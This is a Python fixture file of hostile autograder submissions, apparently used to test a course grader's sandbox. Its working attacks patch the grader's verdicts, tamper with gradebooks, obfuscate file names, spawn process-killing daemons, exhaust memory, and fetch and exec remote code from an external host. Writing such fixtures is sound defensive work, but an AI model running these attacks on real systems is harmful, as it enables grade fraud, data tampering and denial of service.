"""A library of hostile Tarea 2 submissions: what a student who read this whole repository would try.

``ATTACKS`` is a list of records, each a dict with

* ``name``: ascii identifier (pytest id, student id suffix, and the ``PWNED_<name>`` marker of
  every file or process the attack plants);
* ``description``: one Spanish line saying what the attack tries;
* ``cells``: {answer grade_id: full cell source}; every answer cell not listed keeps its release
  stub, so the honest part of each attack earns 0 points;
* ``json`` (optional): a function that edits the submitted notebook's raw JSON (a dict) after
  the cells are filled in, for attacks that live in the file rather than in the code.

Most attacks would have worked against a naive nbgrader setup (student code and hidden tests in
one kernel, the kernel running with the grader's files and permissions); the others aim at this
grader's own machinery (the helpers a probe lends, the warm sandbox shared by students one after
another, the wire protocol, notebook repair, the feedback step).  Against the course's
trusted grading (student code in a sandbox, verdicts outside it) every attack must earn 0, leave
the course and the repository untouched, leave no process behind, and change nobody else's grade:
``tests/test_attacks.py`` grades them all through ``pipeline.grade``.

Attack code is plain student code: it runs inside the sandbox, so it cannot import anything from
this repository; whatever it needs is in the cell's source.
"""
import base64

from tools.examples import SOURCE
from tarea2_grader.engine.cells import stub_sources
from tarea2_grader.tarea2.activaciones import DERIVADAS

PARTE_1A = tuple(DERIVADAS)  # the tests of part 1a (the activations' derivatives), as the table lists them

STUBS = stub_sources(SOURCE)
MARKER = "PWNED_"


def antes(grade_id, codigo):
    """The release stub of ``grade_id`` with ``codigo`` in front (runs before the stub's raise)."""
    return codigo.strip("\n") + "\n\n\n" + STUBS[grade_id]


def despues(grade_id, codigo):
    """The release stub of ``grade_id`` followed by ``codigo`` (stubs that only define functions)."""
    return STUBS[grade_id].rstrip("\n") + "\n\n\n" + codigo.strip("\n") + "\n"


# --------------------------------------------------------------------------- shared snippets (student code)

# Finds the course folder the way a student who read the repository would: walking up from the
# working directory and from the usual homes, and through every process's cwd.
BUSCAR_CURSO = r'''
import os, glob

def _candidatas():
    vistas = set()
    raices = [os.getcwd(), "/work", "/work/main", "/root", "/home", "/tmp", "/srv", "/opt", "/"]
    raices += [v for v in os.environ.values() if v.startswith("/")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                raices.append(os.readlink("/proc/%s/cwd" % pid))
            except OSError:
                pass
    for r in raices:
        d = os.path.abspath(r)
        while d not in vistas:
            vistas.add(d)
            yield d
            if d == "/":
                break
            d = os.path.dirname(d)
        for patron in ("*", "*/*", "*/*/*"):
            for sub in glob.glob(os.path.join(r, patron)):
                if os.path.isdir(sub) and sub not in vistas:
                    vistas.add(sub)
                    yield sub

def buscar_curso(*nombres):
    """Folders that contain any of ``nombres`` (relative paths)."""
    halladas = []
    for d in _candidatas():
        for n in nombres:
            if os.path.exists(os.path.join(d, n)):
                halladas.append((d, n))
    return halladas
'''


def _b64(texto):
    return base64.b64encode(texto.encode()).decode()


# --------------------------------------------------------------------------- the attacks

ATTACKS = []


def ataque(name, description, cells, json_edit=None, known_gap=None):
    """Append one attack record to ``ATTACKS``.

    ``known_gap``: why the attack still earns points (reported; its test is a strict xfail, so it
    turns into a failure the day the gap is closed and the marker must go).
    """
    record = {"name": name, "description": description, "cells": cells}
    if json_edit is not None:
        record["json"] = json_edit
    if known_gap:
        record["known_gap"] = known_gap
    ATTACKS.append(record)


# 1. The grader's own modules: rebind the verdict in sys.modules (works when tests share the kernel).
ataque(
    "parchar_hidden", "Importa tarea2_grader.tarea2.hidden y reemplaza evaluar, veredicto y PRUEBAS para que todo pase.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import sys, types

def _todo_ok(*args, **kwargs):
    print("Tests ocultos: ok")
    return None

for _ruta in ("/work/main", "/work", "/root", "..", "../.."):
    sys.path.append(_ruta)
try:
    from tarea2_grader.tarea2 import hidden as _h
except Exception as _e:
    print("no pude importar hidden:", type(_e).__name__)
    _h = types.ModuleType("tarea2_grader.tarea2.hidden")
    sys.modules["tarea2_grader"] = types.ModuleType("tarea2_grader")
    sys.modules["tarea2_grader.tarea2.hidden"] = _h
    sys.modules["tarea2_grader"].hidden = _h
_h.evaluar = _todo_ok
_h.veredicto = lambda *a, **k: None
_h.PRUEBAS = {}
for _m in list(sys.modules.values()):
    for _n in ("evaluar", "veredicto", "comparar", "exigir", "juzgar"):
        if hasattr(_m, _n):
            try:
                setattr(_m, _n, _todo_ok)
            except Exception:
                pass
evaluar = _todo_ok
hidden = _h
''')})


# 2. Autograd with a saved reference to the real engine: the probe's trap replaces the class
# attribute, not the object a student kept (and the spy keeps the real engine in `_engine`).
ataque(
    "autograd_motor_guardado",
    "Calcula las derivadas con el motor de autograd guardado antes de que el test lo intercepte.",
    {"derivadas_codigo": r'''
import torch
from torch.autograd import variable as _variable

_MOTOR = getattr(_variable.Variable, "_execution" + "_engine")


def _motor():
    actual = getattr(_variable.Variable, "_execution" + "_engine")
    return getattr(actual, "_engine", _MOTOR)


def _derivadas(fn, T, p=None):
    X = T.detach().clone().requires_grad_(True)
    entradas = [X]
    P = None
    if p is not None:
        P = (torch.as_tensor(p, dtype=T.dtype) * torch.ones_like(T)).detach().requires_grad_(True)
        entradas.append(P)
    with torch.enable_grad():
        y = (fn(X) if P is None else fn(X, P)).sum()
        g = _motor().run_backward((y,), (torch.ones_like(y),), False, False, tuple(entradas), True, False)
    return g[0] if P is None else (g[0], g[1])


def sig(T, gradient=False):
    if gradient:
        return _derivadas(torch.sigmoid, T)
    return torch.sigmoid(T)


def tanh(T, gradient=False):
    if gradient:
        return _derivadas(torch.tanh, T)
    return torch.tanh(T)


def relu(T, gradient=False):
    if gradient:
        return _derivadas(torch.relu, T)
    return torch.clamp(T, min=0)


def swish(T, beta=1.0, gradient=False):
    if gradient:
        return _derivadas(lambda X, B=torch.as_tensor(beta, dtype=T.dtype): X * torch.sigmoid(B * X), T, beta)
    return T * torch.sigmoid(beta * T)


def celu(T, alpha=1.0, gradient=False):
    if gradient:
        return _derivadas(lambda X, A=torch.as_tensor(alpha, dtype=T.dtype):
                          torch.where(X > 0, X, A * torch.expm1(X / A)), T, alpha)
    return torch.clamp(T, min=0) + torch.clamp(alpha * (torch.exp(T / alpha) - 1), max=0)
'''})  # the traps in the probe miss it; the review of the source flags it (torch.autograd.variable)


# 3. The probe lends the reference network to backward's test: find it up the call stack.
ataque(
    "red_prestada_en_la_pila",
    "FFNN.backward busca en la pila de llamadas la red de referencia que el test presta y copia sus gradientes.",
    {"ffnn_backward": despues("ffnn_backward", r'''
import sys


def _prestado(nombre):
    f = sys._getframe(1)
    while f is not None:
        for v in list(f.f_locals.values()):
            if isinstance(v, dict) and nombre in v:
                return v[nombre]
        f = f.f_back
    raise NotImplementedError()


def _backward_prestado(self, x, y, y_pred):
    Red = _prestado("RedDeReferencia")
    ref = Red([W.detach() for W in self.Ws], [b.detach() for b in self.bs], self.U.detach(), self.c.detach(), [])
    fs = []
    for k, f in enumerate(self.fs):
        p = self.param_de_capa(k)
        if p is None:
            fs.append(f)
        else:
            p = p.detach()
            fs.append(lambda T, gradient=False, f=f, p=p: f(T, p, gradient=True)[0] if gradient else f(T, p))
    ref.fs = fs
    ref.backward(x, y, y_pred.detach())
    for mio, suyo in zip(list(self.Ws) + list(self.bs) + [self.U, self.c],
                         list(ref.Ws) + list(ref.bs) + [ref.U, ref.c]):
        mio.grad = suyo.grad


FFNN.backward = _backward_prestado
''')})


# 4. What one probe saw, the next one reads: keep the lent helpers in the working folder.
ataque(
    "ayudas_guardadas_en_disco",
    "grad_capa_escondida guarda en disco el código de ayuda que le presta el test y SGD lo usa después.",
    {"capas_escondidas": r'''
import os
import sys

_CACHE = os.path.join(os.getcwd(), ".cache_PWNED_ayudas_guardadas_en_disco.py")


def grad_capa_escondida(dL_dh, h_prev, W, b, f, p=None):
    f_ = sys._getframe(1)
    while f_ is not None:
        for v in list(f_.f_locals.values()):
            if isinstance(v, dict) and isinstance(v.get("helpers_source"), str) and v["helpers_source"]:
                with open(_CACHE, "w") as fh:
                    fh.write(v["helpers_source"])
        f_ = f_.f_back
    raise NotImplementedError()
''', "sgd": r'''
import os

_CACHE = os.path.join(os.getcwd(), ".cache_PWNED_ayudas_guardadas_en_disco.py")


class SGD:
    def __init__(self, parameters, lr):
        ns = {}
        with open(_CACHE) as fh:
            exec(fh.read(), ns)
        self._opt = ns["SGDReferencia"](parameters, lr)

    def step(self):
        self._opt.step()
'''})


# 5. builtins: a fake `tarea2_grader.tarea2.hidden` for every import, and assertions that never fail.
ataque(
    "parchar_builtins",
    "Reemplaza __import__ y AssertionError en builtins para que los tests ocultos importen un corrector falso.",
    {"celoss": despues("celoss", r'''
import builtins
import types

_import_original = builtins.__import__
_falso = types.ModuleType("tarea2_grader.tarea2.hidden")
_falso.evaluar = lambda nombre: print("Tests ocultos de {}: ok".format(nombre[5:]))
_paquete = types.ModuleType("tarea2_grader")
_paquete.hidden = _falso


def _import_tramposo(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("tarea2_grader"):
        return _falso if name.endswith("hidden") and not fromlist else _paquete
    return _import_original(name, globals, locals, fromlist, level)


class _NuncaFalla(Exception):
    pass


builtins.__import__ = _import_tramposo
builtins.AssertionError = _NuncaFalla
builtins.evaluar = _falso.evaluar
''')})


# 6. IPython input transformers: drop the hidden tests' lines before they run.
ataque(
    "transformador_ipython",
    "Agrega un transformador de entrada de IPython que borra las líneas de los tests ocultos antes de ejecutarlas.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
def _sin_tests(lineas):
    fuera = ("evaluar", "hidden", "assert", "tarea2_grader", "chequear(", "raise")
    return [("pass\n" if any(f in l for f in fuera) else l) for l in lineas]


_ip = get_ipython()
_ip.input_transformers_cleanup.append(_sin_tests)
_ip.input_transformers_post.append(_sin_tests)
try:
    _ip.input_transformer_manager.cleanup_transforms.append(_sin_tests)
except Exception:
    pass
''')})


# 7. IPython events and run_cell: report every later cell as a success.
ataque(
    "eventos_ipython",
    "Registra eventos pre_run_cell/post_run_cell y reemplaza run_cell para que las celdas de test no se ejecuten.",
    {"celoss": despues("celoss", r'''
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

_ip = get_ipython()
_run_cell_original = InteractiveShell.run_cell


def _run_cell(self, raw_cell, *args, **kwargs):
    if "evaluar" in raw_cell or "hidden" in raw_cell or "assert" in raw_cell:
        print("Tests ocultos: ok")
        resultado = ExecutionResult(None)
        resultado.execution_count = self.execution_count
        return resultado
    return _run_cell_original(self, raw_cell, *args, **kwargs)


def _antes(info):
    if "evaluar" in (info.raw_cell or ""):
        info.raw_cell = "print('Tests ocultos: ok')"


def _despues(resultado):
    resultado.error_before_exec = None
    resultado.error_in_exec = None


InteractiveShell.run_cell = _run_cell
_ip.run_cell = _run_cell.__get__(_ip)
_ip.events.register("pre_run_cell", _antes)
_ip.events.register("post_run_cell", _despues)
''')})


# 8. Exceptions that never surface: custom IPython handler, excepthook, no tracebacks.
ataque(
    "excepciones_silenciadas",
    "Silencia toda excepción con set_custom_exc, sys.excepthook y showtraceback para que los tests fallidos no se noten.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import sys

_ip = get_ipython()


def _tragar(shell, etype, evalue, tb, tb_offset=None):
    print("Tests ocultos: ok")
    return None


_ip.set_custom_exc((BaseException,), _tragar)
sys.excepthook = lambda *a: print("Tests ocultos: ok")
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None


def _tolerante(f):
    def g(*args, **kwargs):
        try:
            return f(*args, **kwargs)
        except BaseException:
            return args[0] if args else None
    return g


sig, tanh, relu, swish, celu = (_tolerante(f) for f in (sig, tanh, relu, swish, celu))
''')})


# 9. Tracing hooks: rewrite the grader's locals and return values as they run.
ataque(
    "traza_sys",
    "Instala sys.settrace, sys.setprofile y threading.settrace para forzar a True lo que devuelvan las comparaciones.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import sys
import threading

_SOSPECHOSAS = ("comparar", "veredicto", "juzgar", "exigir", "evaluar", "allclose", "error_relativo", "llamar")


def _traza(frame, event, arg):
    nombre = frame.f_code.co_name
    if nombre in _SOSPECHOSAS or "hidden" in frame.f_code.co_filename or "sonda" in frame.f_code.co_filename:
        if event == "return":
            frame.f_locals.update({"problemas": [], "ok": True, "rel": 0.0, "log": []})
        return _traza
    return _traza


def _perfil(frame, event, arg):
    if event in ("call", "c_call") and frame.f_code.co_name in _SOSPECHOSAS:
        frame.f_locals["log"] = []


sys.settrace(_traza)
sys.setprofile(_perfil)
threading.settrace(_traza)
threading.setprofile(_perfil)


def _reinstalar(f):
    def g(*args, **kwargs):
        sys.settrace(_traza)
        sys.setprofile(_perfil)
        return f(*args, **kwargs)
    return g


sig, tanh, relu, swish, celu = (_reinstalar(f) for f in (sig, tanh, relu, swish, celu))
''')})


# 10. atexit, signals and alarms: act after the grader thinks the kernel is done, or in its way.
ataque(
    "atexit_y_senales",
    "Registra atexit, ignora SIGTERM/SIGINT y programa una alarma que interrumpe a quien esté corriendo los tests.",
    {"celoss": despues("celoss", r'''
import atexit
import os
import signal

_MARCA = "PWNED_atexit_y_senales"


def _al_salir():
    for d in ("/work/main", "/work", "/root", "/tmp", os.path.expanduser("~"), os.getcwd() + "/.."):
        try:
            with open(os.path.join(d, _MARCA), "w") as fh:
                fh.write("escrito al salir\n")
        except OSError:
            pass
    for ruta in ("/work/main/grades.csv", "grades.csv", "../grades.csv", "../../grades.csv"):
        try:
            with open(ruta, "a") as fh:
                fh.write("atexit_y_senales,100,0\n")
        except OSError:
            pass


def _alarma(signum, frame):
    # Interrumpe lo que esté corriendo (los tests ocultos) como si hubiera terminado bien.
    raise SystemExit(0)


atexit.register(_al_salir)
for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(_s, signal.SIG_IGN)
signal.signal(signal.SIGALRM, _alarma)
signal.alarm(3)
signal.setitimer(signal.ITIMER_VIRTUAL, 1.5)
signal.signal(signal.SIGVTALRM, _alarma)


def _con_alarma(f):
    def g(*args, **kwargs):
        signal.signal(signal.SIGALRM, _alarma)
        signal.setitimer(signal.ITIMER_REAL, 0.05)
        return f(*args, **kwargs)
    return g


CELoss = _con_alarma(CELoss)
''')})


# 11. torch's comparisons and arithmetic: whatever the grader compares is equal.
ataque(
    "parchar_torch_comparacion",
    "Reemplaza torch.allclose, torch.equal, Tensor.__sub__, abs y max para que toda comparación dé igual.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import math
import torch

_cero = lambda *a, **k: torch.zeros(())
_verdad = lambda *a, **k: True
for _nombre, _valor in (("allclose", _verdad), ("equal", _verdad), ("isclose", lambda a, b, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)),
                        ("abs", lambda t, *a, **k: torch.zeros_like(t)), ("max", _cero)):
    setattr(torch, _nombre, _valor)
torch.testing.assert_close = lambda *a, **k: None
math.isclose = _verdad
for _nombre in ("__sub__", "__rsub__", "sub", "abs", "__abs__", "max", "amax"):
    setattr(torch.Tensor, _nombre, lambda self, *a, **k: torch.zeros_like(self) if _nombre.startswith("__") else torch.zeros((), dtype=self.dtype))
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)
torch.Tensor.item = lambda self: 0.0


def sig(T, gradient=False):
    return T
tanh = relu = sig
swish = lambda T, beta=1.0, gradient=False: (T, T) if gradient else T
celu = lambda T, alpha=1.0, gradient=False: (T, T) if gradient else T
''')})


# 12. Serialization: whatever leaves the process says "ok".
ataque(
    "parchar_serializacion",
    "Reemplaza json.dumps y Tensor.tolist para que todo mensaje que salga del proceso diga status ok.",
    {"celoss": despues("celoss", r'''
import json
import torch

_dumps_original = json.dumps


def _limpiar(obj):
    if isinstance(obj, dict):
        obj = {k: _limpiar(v) for k, v in obj.items() if k not in ("error", "autograd", "traceback", "ename", "evalue")}
        if "status" in obj:
            obj["status"] = "ok"
        if obj.get("output_type") == "error":
            return {"output_type": "stream", "name": "stdout", "text": "Tests ocultos: ok\n"}
        return obj
    if isinstance(obj, list):
        return [_limpiar(v) for v in obj]
    return obj


def _dumps(obj, *args, **kwargs):
    return _dumps_original(_limpiar(obj), *args, **kwargs)


json.dumps = _dumps
_tolist_original = torch.Tensor.tolist
torch.Tensor.tolist = lambda self: [0.0] * self.numel() if self.dim() == 1 else _tolist_original(self)
''')})


# 13. The course's files, by their literal names: lower everyone else, raise myself, break the grader.
ataque(
    "escribir_archivos_curso",
    "Busca la carpeta del curso (hidden.py, gradebook.db, grades.csv, feedback/, submitted/) y la modifica.",
    {"derivadas_codigo": despues("derivadas_codigo", BUSCAR_CURSO + r'''
import json
import sqlite3

_YO = "%escribir_archivos_curso"  # my student id ends like this
_MARCA = "PWNED_escribir_archivos_curso"
_hechos = []
for carpeta, nombre in buscar_curso("tarea2_grader/tarea2/hidden.py", "gradebook.db", "grades.csv", "semillas.json",
                                    "source/tarea2/tarea2.ipynb", "feedback", "submitted", "nbgrader_config.py"):
    ruta = os.path.join(carpeta, nombre)
    try:
        if nombre.endswith("hidden.py"):
            with open(ruta, "a") as fh:
                fh.write("\nPRUEBAS.clear()\ndef veredicto(*a, **k):\n    return None\n")
        elif nombre == "gradebook.db":
            db = sqlite3.connect(ruta)
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            db.execute("UPDATE grade SET auto_score = max_score WHERE notebook_id IN (SELECT id FROM submitted_notebook "
                       "WHERE assignment_id IN (SELECT id FROM submitted_assignment WHERE student_id LIKE ?))", (_YO,))
            db.commit()
        elif nombre == "grades.csv":
            with open(ruta, "a") as fh:
                fh.write("escribir_archivos_curso,100,0\n")
        elif nombre == "semillas.json":
            with open(ruta, "w") as fh:
                json.dump({"tarea2": {}}, fh)
        elif nombre.endswith(".ipynb"):
            with open(ruta, "a") as fh:
                fh.write(" ")
        elif nombre == "nbgrader_config.py":
            with open(ruta, "a") as fh:
                fh.write("\nc.Autograde.autograde_preprocessors = []\n")
        else:
            for raiz, dirs, archivos in os.walk(ruta):
                for a in archivos:
                    with open(os.path.join(raiz, a), "a") as fh:
                        fh.write("\n" + _MARCA + "\n")
        _hechos.append(ruta)
    except Exception as e:
        pass
for d in ("/work/main", "/work", "/root", "/home", "/tmp", os.getcwd(), "/work/main/source", "/work/main/tarea2_grader"):
    try:
        with open(os.path.join(d, _MARCA), "w") as fh:
            fh.write("aquí estuve\n")
        _hechos.append(d)
    except OSError:
        pass
print("modificados:", _hechos)
''')})


# 14. The same, with every name built at run time (no regex on the source can see them).
_NOMBRES = {"h": "tarea2_grader/tarea2/hidden.py", "g": "gradebook.db", "c": "grades.csv", "s": "semillas.json",
            "f": "feedback", "m": "submitted", "n": "nbgrader_config.py"}
ataque(
    "escribir_archivos_ofuscado",
    "Lo mismo que escribir en el curso, pero con todos los nombres armados en tiempo de ejecución (base64).",
    {"dL_duLm1": antes("dL_duLm1", r'''
import base64 as _b
import os as _o

_n = {k: _b.b64decode(v).decode() for k, v in %s.items()}
_marca = "".join(["PW", "NED_", "escribir_", "archivos_", "ofuscado"])
_raices = [_o.getcwd(), "/" + "work", "/" + "root", "/" + "home", "/" + "tmp"]
_raices += [_o.readlink("/proc/%%s/cwd" %% p) for p in _o.listdir("/proc") if p.isdigit() and _o.path.exists("/proc/%%s/cwd" %% p)]
_vistas = set()
for _r in _raices:
    _d = _o.path.abspath(_r)
    while _d not in _vistas:
        _vistas.add(_d)
        for _k, _rel in _n.items():
            _p = _o.path.join(_d, _rel)
            if _o.path.isfile(_p):
                try:
                    with open(_p, "ab") as _fh:
                        _fh.write(b"\n" + _marca.encode() + b"\n")
                except OSError:
                    pass
            elif _o.path.isdir(_p):
                for _raiz, _ds, _as in _o.walk(_p):
                    for _a in _as:
                        try:
                            with open(_o.path.join(_raiz, _a), "ab") as _fh:
                                _fh.write(b"\n" + _marca.encode() + b"\n")
                        except OSError:
                            pass
        try:
            open(_o.path.join(_d, _marca), "w").close()
        except OSError:
            pass
        if _d == "/":
            break
        _d = _o.path.dirname(_d)
''' % {k: _b64(v) for k, v in _NOMBRES.items()})})


# 15. The hidden tests and references on disk: find them and build the answers from them.
ataque(
    "leer_tests_del_disco",
    "Recorre el disco buscando hidden.py, refs.py y ayudas.py, y ejecuta ayudas.py para responder con su código.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import os
import time

_encontrados = {}
_limite = time.time() + 4
for _raiz, _dirs, _archivos in os.walk("/"):
    _dirs[:] = [d for d in _dirs if not (_raiz == "/" and d in ("proc", "sys", "dev"))]
    for _a in ("ayudas.py", "refs.py", "hidden.py", "tarea2.ipynb", "probes.py"):
        if _a in _archivos:
            _ruta = os.path.join(_raiz, _a)
            try:
                with open(_ruta, errors="replace") as fh:
                    _texto = fh.read()
            except OSError:
                continue
            if "RedDeReferencia" in _texto or "PRUEBAS" in _texto or "evaluar(" in _texto:
                _encontrados[_a] = _texto
    if time.time() > _limite:
        break
print("encontrados:", sorted(_encontrados))
if "ayudas.py" in _encontrados:
    _ns = {}
    exec(_encontrados["ayudas.py"], _ns)
    sig, tanh, relu, swish, celu = (_ns[n] for n in ("sig", "tanh", "relu", "swish", "celu"))
    CELoss = _ns["CELoss"]
''')})


# 16. The grader's own references, imported by a name assembled at run time.
ataque(
    "importar_referencias",
    "Importa las referencias del corrector (refs, ayudas) con un nombre armado en tiempo de ejecución.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import importlib
import sys

_paquete = "".join(["tar", "ea2", "_gra", "der"])
for _r in ("/work/main", "/work", "/root", "/home", "..", "../..", "/tmp"):
    if _r not in sys.path:
        sys.path.append(_r)
_ayudas = _refs = None
for _n in ("ayudas", "refs"):
    try:
        globals()["_" + _n] = importlib.import_module(_paquete + "." + _n)
    except Exception as e:
        print("no pude importar", _n, type(e).__name__)
if _ayudas is not None:
    sig, tanh, relu, swish, celu, CELoss = (getattr(_ayudas, n) for n in ("sig", "tanh", "relu", "swish", "celu", "CELoss"))
if _refs is not None:
    def swish(T, beta=1.0, gradient=False):
        return _refs.derivada_autograd("swish", T, beta) if gradient else T * torch.sigmoid(beta * T)
''')})


# 17. Processes that outlive the student: a plain child, and a double-forked daemon that later
# writes into the course and kills whatever it can (the next student's processes, say).
ataque(
    "proceso_huerfano",
    "Deja un sleep 613 y un demonio con doble fork que después escribe en el curso y mata procesos ajenos.",
    {"mnist": antes("mnist", r'''
import os
import subprocess
import sys

subprocess.Popen(["sleep", "613"], start_new_session=True)
_DEMONIO = r"""
import os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
fin = time.time() + 120
while time.time() < fin:
    time.sleep(1)
    for d in ("/work/main", "/work", "/root", "/tmp"):
        try:
            open(os.path.join(d, "PWNED_proceso_huerfano"), "w").close()
        except OSError:
            pass
    if os.getuid() != 0:  # never as root outside a sandbox: kill(-1) would reach the whole machine
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-S", "-c", _DEMONIO, "PWNED_proceso_huerfano"])
    os._exit(0)
os.wait()
print("demonio lanzado")
''')})


# 18. A process that keeps changing its PID (fork, parent exits) so a cleaner that lists and
# kills never catches it; once the next student is running, it kills everything it can.
ataque(
    "proceso_escurridizo",
    "Un proceso que cambia de PID sin parar (fork y el padre sale) para esquivar la limpieza y matar al siguiente alumno.",
    {"mnist": antes("mnist", r'''
import os
import sys

_ESCURRIDIZO = r"""
import os, signal, time
inicio = time.time()
n = 0
while time.time() - inicio < 40:
    if os.fork():
        os._exit(0)
    n += 1
    if n % 500 == 0 and time.time() - inicio > 3 and os.getuid() != 0:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
"""
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-S", "-c", _ESCURRIDIZO, "PWNED_proceso_escurridizo"])
print("escurridizo lanzado")
''')})


# 19. Memory: a huge tensor, a list that grows until it cannot, and a CELoss that never stops asking.
ataque(
    "memoria_llena",
    "Pide un tensor de 800 GB, llena una lista hasta agotar la memoria y hace que CELoss pida memoria sin fin.",
    {"celoss": despues("celoss", r'''
import os
import torch

try:
    _enorme = torch.empty(200_000_000_000)
except Exception as e:
    print("torch.empty:", type(e).__name__)
_pila = []
try:
    while True:
        _pila.append(bytearray(64 * 1024 * 1024))
except MemoryError:
    print("MemoryError tras", len(_pila), "bloques")
_pila = None


def CELoss(Q, P, estable=True, epsilon=1e-8):
    bloques = []
    while True:
        bloques.append(torch.ones(32 * 1024 * 1024))
''')})


# 20. Shared memory: SysV segments outlive the process that made them (and are not counted in
# any process's address space), and may outlive the student if the sandbox is reused.
ataque(
    "memoria_compartida",
    "Crea segmentos de memoria compartida SysV que sobreviven al proceso (más que el límite) y deja un mensaje.",
    {"celoss": despues("celoss", r'''
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmdt.argtypes = (ctypes.c_void_p,)
_CLAVE = 0x50574E44  # "PWND"
_creados = 0
for _i in range(3):
    _id = _libc.shmget(_CLAVE + _i, 256 * 1024 * 1024, 0o1666)  # IPC_CREAT | 0666
    if _id < 0:
        continue
    _p = _libc.shmat(_id, None, 0)
    if _p in (None, ctypes.c_void_p(-1).value):
        continue
    ctypes.memset(_p, 0x41, 256 * 1024 * 1024)
    _msg = b"PWNED_memoria_compartida: dejado por a20\x00"
    ctypes.memmove(_p, _msg, len(_msg))
    _libc.shmdt(ctypes.c_void_p(_p))
    _creados += 1
print("segmentos creados:", _creados)
'''), "categorical_celoss": despues("categorical_celoss", r'''
try:
    with open("/proc/sysvipc/shm") as fh:
        print("segmentos vivos:", len(fh.read().splitlines()) - 1)
except OSError as e:
    print("sin /proc/sysvipc/shm", e)
''')})


# 21. The network: Jupyter on localhost, an external server; use what answers.
ataque(
    "red_y_sockets",
    "Abre sockets a 127.0.0.1 (Jupyter, ssh) y a servidores externos para mandar o traer las respuestas.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import socket

_abiertos = []
for _host, _port in (("127.0.0.1", 8888), ("127.0.0.1", 22), ("127.0.0.1", 80), ("1.1.1.1", 443),
                     ("8.8.8.8", 53), ("142.250.0.100", 80)):
    try:
        _s = socket.create_connection((_host, _port), timeout=1.5)
        _abiertos.append((_host, _port))
        if _port == 8888:
            _s.sendall(b"POST /api/kernels HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{}")
        _s.close()
    except OSError as e:
        pass
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.settimeout(1)
    _u.sendto(b"PWNED_red_y_sockets", ("8.8.8.8", 53))
    _u.recvfrom(512)
    _abiertos.append("udp")
except OSError:
    pass
print("conexiones abiertas:", _abiertos)
if _abiertos:
    import urllib.request
    try:
        _codigo = urllib.request.urlopen("http://1.1.1.1/respuestas_tarea2.py", timeout=2).read().decode()
        exec(_codigo)
    except Exception:
        pass
    with open("/tmp/PWNED_red_y_sockets", "w") as fh:
        fh.write(repr(_abiertos))
''')})


# 22. Forged protocol frames: a length and a JSON reply that says "ok", on every open descriptor.
ataque(
    "marcos_falsos",
    "Escribe respuestas falsas del protocolo (largo + JSON con status ok) en todos los descriptores abiertos.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import json
import os
import struct
import sys


def _ids_en_la_pila():
    ids = []
    f = sys._getframe(1)
    while f is not None:
        for v in list(f.f_locals.values()):
            if isinstance(v, dict) and isinstance(v.get("id"), str):
                ids.append(v["id"])
        f = f.f_back
    return ids


def _falsificar(extra):
    for ident in _ids_en_la_pila() or ["ready"]:
        cuerpo = dict({"id": ident, "status": "ok"}, **extra)
        datos = json.dumps(cuerpo).encode()
        marco = struct.pack(">I", len(datos)) + datos
        for fd in range(3, 256):
            try:
                os.write(fd, marco)
            except OSError:
                pass


def sig(T, gradient=False):
    if gradient:
        falsos = [{"ok": {"__tensor__": {"dtype": "float64", "shape": [1], "data": [0.0]}}}] * 64
        _falsificar({"result": {"resultados": falsos}, "outputs": [], "memory": False})
    return torch.sigmoid(T)


_falsificar({"outputs": [{"output_type": "stream", "name": "stdout", "text": "Tests ocultos de derivadas_basicas: ok\n"}],
             "memory": False})
''')})


# 23. A reply that the supervisor cannot parse: huge nesting and numbers, from the holder itself.
ataque(
    "respuesta_envenenada",
    "Cambia json.dumps del proceso para mandar al corrector JSON anidado 100000 niveles y números gigantes.",
    {"celoss": despues("celoss", r'''
import json

_dumps_original = json.dumps


def _veneno(obj, *args, **kwargs):
    if isinstance(obj, dict) and "status" in obj:
        return '{"id": %s, "status": "ok", "result": %s%s%s, "n": %s}' % (
            _dumps_original(obj.get("id")), "[" * 100000, "1e999999", "]" * 100000, "9" * 5000)
    return _dumps_original(obj, *args, **kwargs)


json.dumps = _veneno
''')})


# The five activations around a route-specific ``_derivadas(fn, T, p=None)``, which returns the
# elementwise derivative (and the parameter's, when ``p`` is given).
_CINCO = r'''

def sig(T, gradient=False):
    return _derivadas(torch.sigmoid, T) if gradient else torch.sigmoid(T)


def tanh(T, gradient=False):
    return _derivadas(torch.tanh, T) if gradient else torch.tanh(T)


def relu(T, gradient=False):
    return _derivadas(torch.relu, T) if gradient else torch.clamp(T, min=0)


def swish(T, beta=1.0, gradient=False):
    if gradient:
        return _derivadas(lambda X, B: X * torch.sigmoid(B * X), T, beta)
    return T * torch.sigmoid(beta * T)


def celu(T, alpha=1.0, gradient=False):
    if gradient:
        return _derivadas(lambda X, A: torch.where(X > 0, X, A * torch.expm1(X / A)), T, alpha)
